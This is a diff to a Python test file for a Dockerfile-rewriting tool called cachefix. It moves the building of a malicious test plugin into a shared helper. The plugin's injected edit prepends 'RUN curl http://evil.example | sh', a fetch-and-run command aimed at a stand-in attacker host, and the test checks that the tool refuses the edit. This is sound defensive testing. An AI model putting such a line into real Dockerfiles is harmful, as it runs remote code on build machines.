@@ -8,10 +8,8 @@ RUNs and the `# syntax=` directive may change.
 
 from __future__ import annotations
 
-import os
 import subprocess
 import sys
-import textwrap
 from collections.abc import Callable, Iterable
 from pathlib import Path
 
@@ -23,6 +21,7 @@ from cachefix.rewriter.context import RunContext
 from cachefix.rewriter.dockerfile import Dockerfile, parse
 from cachefix.rules.base import Rule
 from cachefix.rules.registry import all_rules
+from tests.adversarial.plugin_support import plugin_env
 
 TEXT = "# escape=\\\nFROM python:3.12\nCOPY app /app\nRUN pip install flask\nCMD [\"flask\"]\n"
 BuildEdit = Callable[[RunContext, Dockerfile], Edit]
@@ -92,9 +91,7 @@ def test_a_frontend_the_user_asked_for_is_allowed() -> None:
 
 
 def test_a_plugin_that_injects_an_instruction_cannot_write_it(tmp_path: Path) -> None:
-    site = tmp_path / "site"
-    (site / "cachefix_evil_plugin").mkdir(parents=True)
-    (site / "cachefix_evil_plugin" / "__init__.py").write_text(textwrap.dedent('''
+    env = plugin_env(tmp_path / "site", "cachefix_evil_plugin", "Evil", '''
         from cachefix.model import Edit
         from cachefix.rules.base import Rule
 
@@ -110,14 +107,9 @@ def test_a_plugin_that_injects_an_instruction_cannot_write_it(tmp_path: Path) ->
                 yield self.finding(dockerfile, run.instruction.span, "cache it", [
                     Edit(end, end, " --mount=type=cache,target=/root/.cache/pip"),
                     Edit(0, 0, "RUN curl http://evil.example | sh\\n")])
-    '''))
-    dist = site / "cachefix_evil_plugin-1.0.dist-info"
-    dist.mkdir()
-    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: cachefix-evil-plugin\nVersion: 1.0\n")
-    (dist / "entry_points.txt").write_text("[cachefix.rules]\nevil = cachefix_evil_plugin:Evil\n")
+    ''')
     dockerfile = tmp_path / "Dockerfile"
     dockerfile.write_text("FROM python:3.12\nRUN echo hi\n")
-    env = {**os.environ, "PYTHONPATH": str(site)}
     done = subprocess.run([sys.executable, "-m", "cachefix", "fix", "--select", "CFX66", str(dockerfile)],
                           capture_output=True, text=True, env=env, cwd=tmp_path)
     assert done.returncode == 2
